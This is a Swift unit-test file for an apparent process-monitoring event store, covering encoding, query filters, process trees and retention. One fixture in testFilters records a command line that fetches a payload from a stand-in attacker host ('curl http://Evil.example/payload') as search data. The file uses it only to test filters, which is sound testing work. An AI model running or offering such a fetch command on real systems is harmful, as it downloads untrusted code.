import Foundation
import GRDB
import SwiftmonCore
@testable import SwiftmonStore
import XCTest

final class StoreTests: XCTestCase {
    var directory = ""

    override func setUpWithError() throws {
        directory = NSTemporaryDirectory() + "swiftmon-store-test-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
    }

    override func tearDown() {
        try? FileManager.default.removeItem(atPath: directory)
    }

    static let t0: Int64 = 1_706_745_599_000_000_000

    static func time(_ seconds: Int) -> EventTime { EventTime(nanosecondsSinceEpoch: t0 + Int64(seconds) * 1_000_000_000) }

    /// A ProcessCreate for a made-up family tree.
    static func processCreate(_ guid: String, pid: Int, image: String, commandLine: String, parent: String?,
                              parentPID: Int = 0, at seconds: Int) -> Event {
        var e = Event(.processCreate, time: time(seconds))
        e["ProcessGuid"] = guid
        e["ProcessId"] = String(pid)
        e["Image"] = image
        e["CommandLine"] = commandLine
        e["CurrentDirectory"] = "/home/user"
        e["User"] = "root"
        if let parent {
            e["ParentProcessGuid"] = parent
            e["ParentProcessId"] = String(parentPID)
            e["ParentImage"] = "/usr/bin/parent-of-\(pid)"
            e["ParentCommandLine"] = "parent of \(pid)"
        }
        return e
    }

    static func terminate(_ guid: String, pid: Int, image: String, at seconds: Int) -> Event {
        var e = Event(.processTerminate, time: time(seconds))
        e["ProcessGuid"] = guid
        e["ProcessId"] = String(pid)
        e["Image"] = image
        return e
    }

    func write(_ events: [Event], to path: String, options: StoreSink.Options = .init()) throws {
        let sink = try StoreSink(path: path, options: options)
        for e in events { try sink.emit(e) }
        try sink.flush()
        XCTAssertEqual(sink.deliveryCounts.delivered, UInt64(events.count), "\(sink.deliveryCounts)")
        sink.close()
    }

    func testEveryKindRoundTripsExactlyIncludingRawBytes() throws {
        let path = directory + "/events.db"
        var events: [Event] = []
        for (n, kind) in EventKind.all.enumerated() {
            var e = Event(kind, time: Self.time(n))
            for (i, name) in kind.fields.enumerated() where name != "UtcTime" {
                e[i] = "\(name) \(n) <&> \"quoted\" \n newline \u{01} ü 🛡️"
            }
            if let i = kind.fields.firstIndex(of: "Image") {
                e.set(kind.fields[i], bytes: [0x2F, 0xFF, 0x00, 0x5C, 0xC3])
            }
            events.append(e)
        }
        try write(events, to: path)
        let back = try StoreReader(path: path).events(matching: { var f = StoreFilter(); f.limit = nil; return f }())
        XCTAssertEqual(back.count, events.count)
        for (a, b) in zip(events, back) {
            XCTAssertEqual(a.kind, b.kind)
            XCTAssertEqual(a.time, b.time)
            XCTAssertEqual(a.values, b.values, a.kind.name)
            XCTAssertEqual(a.rawBytes, b.rawBytes, a.kind.name)
        }
    }

    /// The writer's own buffer (``RowBytes``) encodes exactly as the array
    /// encoder: every kind, values short and long (lengths of one to three
    /// varint bytes, and past the buffer's first capacity so it grows), one
    /// row after another in one buffer.
    func testRowBytesEncodeAsTheArrayEncoder() {
        let row = RowBytes(capacity: 64)
        for (n, kind) in EventKind.all.enumerated() {
            var e = Event(kind, time: Self.time(n))
            for i in kind.fields.indices where kind.fields[i] != "UtcTime" {
                e[i] = String(repeating: "v\(i)ü", count: [1, 40, 9000][(n + i) % 3])
            }
            var expected: [UInt8] = [0xAB]
            EventStore.encodeFields(of: e, into: &expected)
            row.removeAll()
            row.append([0xAB])
            EventStore.encodeFields(of: e, into: row)
            XCTAssertEqual(Array(row.bytes), expected, kind.name)
            row.truncate(to: 1)
            XCTAssertEqual(Array(row.bytes), [0xAB])
        }
    }

    /// The row encoders (RowBytes and [UInt8], values read in place with
    /// ``Event/withUTF8(_:_:)``) write the bytes of the String-array encoder
    /// over `event.values`, whichever way each value is held.
    func testRowEncoderInPlaceEncodesAsTheStringEncoder() {
        let row = RowBytes(capacity: 16)
        let values: [(Int) -> (inout Event, Int) -> Void] = [
            { n in { e, i in e[i] = "text\(n)ü" } },                                   // String, small
            { n in { e, i in e[i] = String(repeating: "long ü \(n) ", count: 30) } },   // String, native
            { _ in { e, i in e[i] = "" } },                                              // empty String
            { _ in { _, _ in } },                                                        // absent "-"
            { n in { e, i in e.setUTF8(i, Array("{guid-\(n)-ü}".utf8)) } },            // arena bytes
            { _ in { e, i in e.setUTF8(i, []) } },                                       // empty bytes
            { n in { e, i in e.setUTF8(i, [0x2F, 0xFF, 0xC3, UInt8(n & 0x3F)]) } },     // not UTF-8
            { n in { e, i in e.set(i, bytes: [0x80, 0x41, UInt8(n & 0x3F)]) } },        // not UTF-8 (set)
        ]
        for (n, kind) in EventKind.all.enumerated() {
            for shift in 0..<values.count {
                var e = Event(kind, time: Self.time(n))
                for i in kind.fields.indices where kind.fields[i] != "UtcTime" {
                    values[(i + shift) % values.count](n + i)(&e, i)
                }
                var expected: [UInt8] = [0xAB]
                EventStore.encodeFields(e.values, into: &expected)
                row.removeAll()
                row.append([0xAB])
                EventStore.encodeFields(of: e, into: row)
                XCTAssertEqual(Array(row.bytes), expected, "\(kind.name) shift \(shift)")
                var viaArray: [UInt8] = [0xAB]
                EventStore.encodeFields(of: e, into: &viaArray)
                XCTAssertEqual(viaArray, expected, "\(kind.name) shift \(shift)")
            }
        }
    }

    func testStoreFilesAreMode0600AndUseWAL() throws {
        let path = directory + "/events.db"
        let sink = try StoreSink(path: path)
        try sink.emit(Self.processCreate("{a}", pid: 1, image: "/x", commandLine: "x", parent: nil, at: 0))
        try sink.flush()
        for file in [path, path + "-wal", path + "-shm"] {
            let mode = try FileManager.default.attributesOfItem(atPath: file)[.posixPermissions] as? Int
            XCTAssertEqual(mode.map { $0 & 0o777 }, 0o600, file)
        }
        let db = try DatabaseQueue(path: path)
        XCTAssertEqual(try db.read { try String.fetchOne($0, sql: "PRAGMA journal_mode") }, "wal")
        XCTAssertEqual(try db.read { try Int.fetchOne($0, sql: "PRAGMA auto_vacuum") }, 2, "incremental")
        XCTAssertEqual(try db.read { try Int.fetchOne($0, sql: "PRAGMA page_size") }, 8192)
        let indexes = try db.read { try String.fetchAll($0, sql: "SELECT name FROM sqlite_master WHERE type = 'index'") }
        for name in ["event_by_process_guid", "event_by_parent_process_guid", "event_by_image"] {
            XCTAssertTrue(indexes.contains(name), name)
        }
        // Process ids: sealed segments instead of a per-row index (EventStore.processIDTables).
        let tables = try db.read { try String.fetchAll($0, sql: "SELECT name FROM sqlite_master WHERE type = 'table'") }
        XCTAssertTrue(Set(tables).isSuperset(of: ["event", "event_pid", "pid_sealed", "event_kinds"]), "\(tables)")
        XCTAssertFalse(indexes.contains("event_by_event_id"), "EventIDs: kind blocks instead (EventStore.kindBlockTable)")
        // The queries use them.
        let guidPlan = try db.read { db -> String in
            let rows = try Row.fetchAll(db, sql: "EXPLAIN QUERY PLAN SELECT * FROM event WHERE process_guid = ?", arguments: ["{a}"])
            return rows.map { "\($0)" }.joined()
        }
        XCTAssertTrue(guidPlan.contains("event_by_process_guid"), guidPlan)
        sink.close()
    }

    func testFilters() throws {
        let path = directory + "/events.db"
        var events = [
            Self.processCreate("{11111111-0000-0000-0000-000000000001}", pid: 100, image: "/usr/bin/bash",
                               commandLine: "bash -l", parent: nil, at: 0),
            Self.processCreate("{11111111-0000-0000-0000-000000000002}", pid: 200, image: "/usr/bin/curl",
                               commandLine: "curl http://Evil.example/payload", parent: "{11111111-0000-0000-0000-000000000001}",
                               parentPID: 100, at: 10),
            Self.terminate("{11111111-0000-0000-0000-000000000002}", pid: 200, image: "/usr/bin/curl", at: 20),
        ]
        var file = Event(.fileCreate, time: Self.time(30))
        file["ProcessGuid"] = "{11111111-0000-0000-0000-000000000001}"
        file["ProcessId"] = "100"
        file["Image"] = "/usr/bin/bash"
        file["TargetFilename"] = "/tmp/100%_done_file"
        events.append(file)
        try write(events, to: path)
        let reader = try StoreReader(path: path)
        func query(_ configure: (inout StoreFilter) -> Void) throws -> [String] {
            var f = StoreFilter()
            configure(&f)
            return try reader.events(matching: f).map { "\($0.kind.id)@\($0["ProcessId"] ?? "")" }
        }
        XCTAssertEqual(try query { _ in }, ["1@100", "1@200", "5@200", "11@100"])
        XCTAssertEqual(try query { $0.eventIDs = [5, 11] }, ["5@200", "11@100"])
        XCTAssertEqual(try query { $0.image = "/usr/bin/curl" }, ["1@200", "5@200"])
        XCTAssertEqual(try query { $0.image = "curl" }, ["1@200", "5@200"])
        XCTAssertEqual(try query { $0.image = "url" }, [], "a name matches whole path components only")
        XCTAssertEqual(try query { $0.processGuid = "11111111-0000-0000-0000-000000000002" }, ["1@200", "5@200"])
        XCTAssertEqual(try query { $0.processGuid = "{11111111-0000-0000-0000-000000000002}".uppercased() }, ["1@200", "5@200"])
        XCTAssertEqual(try query { $0.processID = 100 }, ["1@100", "11@100"])
        XCTAssertEqual(try query { $0.since = Self.time(10); $0.until = Self.time(20) }, ["1@200", "5@200"])
        XCTAssertEqual(try query { $0.contains = "evil.EXAMPLE" }, ["1@200"], "command lines, ASCII case ignored")
        XCTAssertEqual(try query { $0.contains = "100%_done" }, ["11@100"], "paths; % and _ are literal")
        XCTAssertEqual(try query { $0.contains = "1000_done" }, [])
        XCTAssertEqual(try query { $0.limit = 2 }, ["1@100", "1@200"])
        XCTAssertEqual(try query { $0.limit = 2; $0.newestFirst = true }, ["11@100", "5@200"])
        XCTAssertEqual(try query { $0.eventIDs = [1]; $0.image = "bash"; $0.contains = "curl" }, [])
    }

    func testTimeAndSizeExpressions() throws {
        XCTAssertEqual(try StoreExpression.time("2024-01-31 23:59:59.123").nanoseconds, 1_706_745_599_123_000_000)
        XCTAssertEqual(try StoreExpression.time("2024-01-31T23:59:59Z").nanoseconds, 1_706_745_599_000_000_000)
        XCTAssertEqual(try StoreExpression.time("2024-02-01").nanoseconds, 1_706_745_600_000_000_000)
        XCTAssertEqual(try StoreExpression.time("1970-01-01 00:00:00.000000001").nanoseconds, 1)
        XCTAssertEqual(try StoreExpression.time("@1706745600").nanoseconds, 1_706_745_600_000_000_000)
        let now = EventTime(nanosecondsSinceEpoch: 10_000_000_000_000)
        XCTAssertEqual(try StoreExpression.time("15m", now: now).nanoseconds, now.nanoseconds - 900_000_000_000)
        XCTAssertThrowsError(try StoreExpression.time("2024-13-01"))
        XCTAssertThrowsError(try StoreExpression.time("yesterday"))
        XCTAssertEqual(try StoreExpression.size("500M"), 500 << 20)
        XCTAssertEqual(try StoreExpression.size("2GiB"), 2 << 30)
        XCTAssertEqual(try StoreExpression.size("4096"), 4096)
        XCTAssertThrowsError(try StoreExpression.size("-1"))
        XCTAssertThrowsError(try StoreExpression.size("lots"))
        XCTAssertEqual(StoreExpression.duration("7d"), 7 * 86400)
    }

    func testProcessTreeAncestorsAndDescendants() throws {
        let path = directory + "/events.db"
        // init(1) → sshd(10) → bash(20) → { make(30) → { cc(40), cc(41) }, vim(31) }; bash's sibling: cron(11)
        let g = { (n: Int) in "{22222222-0000-0000-0000-0000000000\(n)}" }
        let events = [
            Self.processCreate(g(10), pid: 10, image: "/usr/sbin/sshd", commandLine: "sshd: user", parent: g(1), parentPID: 1, at: 0),
            Self.processCreate(g(11), pid: 11, image: "/usr/sbin/cron", commandLine: "cron -f", parent: g(1), parentPID: 1, at: 1),
            Self.processCreate(g(20), pid: 20, image: "/usr/bin/bash", commandLine: "-bash", parent: g(10), parentPID: 10, at: 2),
            Self.processCreate(g(30), pid: 30, image: "/usr/bin/make", commandLine: "make -j2", parent: g(20), parentPID: 20, at: 3),
            Self.processCreate(g(31), pid: 31, image: "/usr/bin/vim", commandLine: "vim notes\nwith newline", parent: g(20), parentPID: 20, at: 4),
            Self.processCreate(g(40), pid: 40, image: "/usr/bin/cc", commandLine: "cc -c a.c", parent: g(30), parentPID: 30, at: 5),
            Self.processCreate(g(41), pid: 41, image: "/usr/bin/cc", commandLine: "cc -c b.c", parent: g(30), parentPID: 30, at: 6),
            Self.terminate(g(40), pid: 40, image: "/usr/bin/cc", at: 7),
        ]
        try write(events, to: path)
        let reader = try StoreReader(path: path)
        let tree = try reader.processTree(of: .guid(g(30)))
        XCTAssertEqual(tree.ancestors.map(\.processID), [1, 10, 20])
        XCTAssertFalse(tree.ancestors[0].recorded, "init started before the store: pieced together from sshd's Parent* fields")
        XCTAssertEqual(tree.ancestors[0].image, "/usr/bin/parent-of-10")
        XCTAssertEqual(tree.process.processID, 30)
        XCTAssertEqual(tree.process.children.map(\.processID), [40, 41])
        XCTAssertEqual(tree.process.children[0].ended, Self.time(7))
        XCTAssertNil(tree.process.children[1].ended)
        XCTAssertEqual(tree.descendantCount, 2)

        let byPID = try reader.processTree(of: ProcessSelector(parsing: "20"))
        XCTAssertEqual(byPID.process.guid, g(20))
        XCTAssertEqual(byPID.process.children.map(\.processID), [30, 31])
        XCTAssertEqual(byPID.descendantCount, 4)
        let drawing = byPID.rendered()
        XCTAssertTrue(drawing.contains("└─ ▶ 20 /usr/bin/bash (root)  2024-02-01 00:00:01.000 → running"), drawing)
        XCTAssertTrue(drawing.contains("├─ 30 /usr/bin/make"), drawing)
        XCTAssertTrue(drawing.contains("│  └─ 41 /usr/bin/cc"), drawing)
        XCTAssertTrue(drawing.contains("vim notes\\nwith newline"), "control characters are shown, not obeyed")
        XCTAssertFalse(drawing.contains("cron"), "siblings of ancestors are not part of the tree")

        XCTAssertThrowsError(try reader.processTree(of: .guid("{no-such-guid}"))) { error in
            XCTAssertTrue("\(error)".contains("no process with GUID"), "\(error)")
        }
        let limited = try reader.processTree(of: .guid(g(20)), maxNodes: 2)
        XCTAssertTrue(limited.truncated)
        XCTAssertEqual(limited.descendantCount, 2)
    }

    func testQueriesWorkWhileAWriterIsWriting() throws {
        let path = directory + "/events.db"
        var options = StoreSink.Options()
        options.commitInterval = 0.01
        let sink = try StoreSink(path: path, options: options)
        let reader = try StoreReader(path: path)
        let done = DispatchSemaphore(value: 0)
        Thread {
            for n in 0..<60_000 {
                try? sink.emit(StoreBenchmark.processCreate(sequence: n, time: Self.time(n)))
                if n % 5000 == 0 { Thread.sleep(forTimeInterval: 0.01) }
            }
            done.signal()
        }.start()
        var last = 0
        var reads = 0
        while done.wait(timeout: .now()) == .timedOut {
            let count = try reader.count()
            XCTAssertGreaterThanOrEqual(count, last, "a reader never sees fewer committed events")
            last = count
            var f = StoreFilter()
            f.image = "bash"
            f.limit = 10
            _ = try reader.events(matching: f)
            _ = try? reader.processTree(of: .processID(3), maxNodes: 50)
            reads += 1
        }
        try sink.flush()
        XCTAssertEqual(try reader.count(), 60_000)
        XCTAssertGreaterThan(reads, 1)
        sink.close()
    }

    func testRetentionByAgeRunsWhileWriting() throws {
        let path = directory + "/events.db"
        var options = StoreSink.Options()
        options.maxAge = 3600
        options.retentionInterval = 0.1
        let sink = try StoreSink(path: path, options: options)
        let now = EventTime.now().nanoseconds
        for n in 0..<1000 {
            // Half two hours old, half new.
            let age: Int64 = n % 2 == 0 ? 7200 : 0
            try sink.emit(StoreBenchmark.processCreate(sequence: n, time: EventTime(nanosecondsSinceEpoch: now - age * 1_000_000_000)))
        }
        try sink.flush()
        let reader = try StoreReader(path: path)
        XCTAssertEqual(sink.deliveryCounts.delivered, 1000)
        let deadline = Date(timeIntervalSinceNow: 10)
        var old = StoreFilter()
        old.until = EventTime(nanosecondsSinceEpoch: now - 3600 * 1_000_000_000)
        old.limit = 1
        while try !reader.events(matching: old).isEmpty || sink.status.deletedByRetention < 500, Date() < deadline {
            try sink.emit(StoreBenchmark.processCreate(sequence: 5000, time: .now()))  // keeps the writer loop turning
            Thread.sleep(forTimeInterval: 0.05)
        }
        var f = StoreFilter()
        f.limit = nil
        let left = try reader.events(matching: f)
        XCTAssertTrue(left.allSatisfy { $0.time.nanoseconds >= now - 3600 * 1_000_000_000 }, "old events are gone")
        XCTAssertGreaterThanOrEqual(left.count, 500, "new events are kept")
        XCTAssertGreaterThanOrEqual(sink.status.deletedByRetention, 500)
        sink.close()
        _ = try StoreProcessIDSegmentTests.processIDEntries(path)  // the deleted rows' entries went with them
    }

    func testRetentionBySizeKeepsTheStoreBoundedAndTheNewestEvents() throws {
        let path = directory + "/events.db"
        var options = StoreSink.Options()
        options.maxSize = 4 << 20
        options.retentionInterval = 0.05
        options.batchSize = 2000
        let sink = try StoreSink(path: path, options: options)
        let filler = String(repeating: "z", count: 1000)
        for n in 0..<40_000 {  // ≈ 40+ MB of events through a 4 MiB store
            var e = StoreBenchmark.processCreate(sequence: n, time: Self.time(n))
            e["ParentCommandLine"] = filler
            try sink.emit(e)
            if n % 2000 == 0 { try sink.flush() }
        }
        try sink.flush()
        Thread.sleep(forTimeInterval: 0.3)
        try sink.emit(StoreBenchmark.processCreate(sequence: 99_999, time: Self.time(99_999)))
        try sink.flush()
        Thread.sleep(forTimeInterval: 0.3)
        let size = try sink.currentSize()
        XCTAssertLessThanOrEqual(size, Int64(Double(4 << 20) * 1.5), "store grew to \(size) bytes")
        let reader = try StoreReader(path: path)
        var newest = StoreFilter()
        newest.newestFirst = true
        newest.limit = 1
        XCTAssertEqual(try reader.events(matching: newest).first?["ProcessId"], "99999")
        XCTAssertGreaterThan(try reader.count(), 500)
        XCTAssertEqual(try reader.integrityCheck(), ["ok"])
        XCTAssertEqual(sink.deliveryCounts.droppedTotal, 0)
        sink.close()
        _ = try StoreProcessIDSegmentTests.processIDEntries(path)  // the deleted rows' entries went with them
    }

    /// A store whose times have a gap (a host switched off for months, a clock
    /// step) loses its oldest rows by count when over size, not the oldest
    /// part of its time span: that part can hold every row but the newest.
    func testRetentionBySizeAcrossAGapInTimeKeepsTheNewestRowsByCount() throws {
        let path = directory + "/events.db"
        var options = StoreSink.Options()
        options.maxSize = 4 << 20
        options.retentionInterval = 3600  // only the call below enforces it
        let sink = try StoreSink(path: path, options: options)
        let filler = String(repeating: "z", count: 1000)
        for n in 0..<6000 {  // ≈ 7 MB of rows
            var e = StoreBenchmark.processCreate(sequence: n, time: Self.time(n))
            e["ParentCommandLine"] = filler
            try sink.emit(e)
        }
        try sink.emit(StoreBenchmark.processCreate(sequence: 99_999, time: Self.time(10_000_000)))  // 115 days on
        try sink.flush()
        try sink.writer.enforceRetention()

        let dataLimit = Int64(4 << 20) - StoreSinkWriter.walBudget(4 << 20)
        XCTAssertLessThanOrEqual(try sink.writer.liveBytes(), dataLimit)
        let reader = try StoreReader(path: path)
        let kept = try reader.count()
        XCTAssertGreaterThan(kept, 1000, "the store keeps what fits (≈ 1,750 rows), not only the newest row")
        var oldestFirst = StoreFilter()
        oldestFirst.limit = 1
        let oldestKept = try XCTUnwrap(Int(try reader.events(matching: oldestFirst).first?["ProcessId"] ?? ""))
        XCTAssertEqual(oldestKept, 6000 - (kept - 1), "the rows kept are the newest ones, without a hole")
        XCTAssertEqual(Int(sink.status.deletedByRetention), 6001 - kept)
        XCTAssertEqual(try reader.integrityCheck(), ["ok"])
        sink.close()
        _ = try StoreProcessIDSegmentTests.processIDEntries(path)
    }

    func testReleasingTheSinkWithoutCloseCommitsWhatWasEmitted() throws {
        let path = directory + "/events.db"
        do {
            let sink = try StoreSink(path: path)
            for n in 0..<100 { try sink.emit(StoreBenchmark.processCreate(sequence: n, time: Self.time(n))) }
        }  // deinit stops the writer after its last commit
        XCTAssertEqual(try StoreReader(path: path).count(), 100)
        Thread.sleep(forTimeInterval: 0.1)
        XCTAssertEqual(threadCount(named: "swiftmon-store"), 0, "the writer thread ended with the sink")
    }

    func testUnwritablePathIsAClearError() throws {
        XCTAssertThrowsError(try StoreSink(path: "/nonexistent-swiftmon-dir/events.db")) { error in
            XCTAssertEqual("\(error)", "cannot open store /nonexistent-swiftmon-dir/events.db: No such file or directory (ENOENT)")
        }
        XCTAssertThrowsError(try StoreSink(path: "/etc/hostname/events.db")) { error in
            XCTAssertTrue("\(error)".contains("Not a directory"), "\(error)")
        }
        XCTAssertThrowsError(try StoreSink(path: "/proc/swiftmon-events.db")) { error in
            XCTAssertTrue("\(error)".hasPrefix("cannot open store /proc/swiftmon-events.db: "), "\(error)")
        }
        let notAStore = directory + "/not-a-store"
        try String(repeating: "this is not sqlite\n", count: 100).write(toFile: notAStore, atomically: true, encoding: .utf8)
        XCTAssertThrowsError(try StoreSink(path: notAStore)) { error in
            XCTAssertTrue("\(error)".contains(notAStore), "\(error)")
        }
        let otherDatabase = directory + "/other.db"
        let other = try DatabaseQueue(path: otherDatabase)
        try other.write { try $0.execute(sql: "CREATE TABLE accounts (name TEXT)") }
        try other.close()
        XCTAssertThrowsError(try StoreSink(path: otherDatabase)) { error in
            XCTAssertTrue("\(error)".contains("is not a swiftmon store"), "\(error)")
        }
        let untouched = try DatabaseQueue(path: otherDatabase)
        XCTAssertEqual(try untouched.read { try String.fetchAll($0, sql: "SELECT name FROM sqlite_master") }, ["accounts"])
        XCTAssertThrowsError(try StoreReader(path: directory + "/missing.db")) { error in
            XCTAssertTrue("\(error)".contains("No such file"), "\(error)")
        }
    }
}

/// Threads of this process whose name starts with `prefix` (/proc/self/task/*/comm).
func threadCount(named prefix: String) -> Int {
    let tasks = (try? FileManager.default.contentsOfDirectory(atPath: "/proc/self/task")) ?? []
    return tasks.filter {
        ((try? String(contentsOfFile: "/proc/self/task/\($0)/comm", encoding: .utf8)) ?? "").hasPrefix(prefix)
    }.count
}
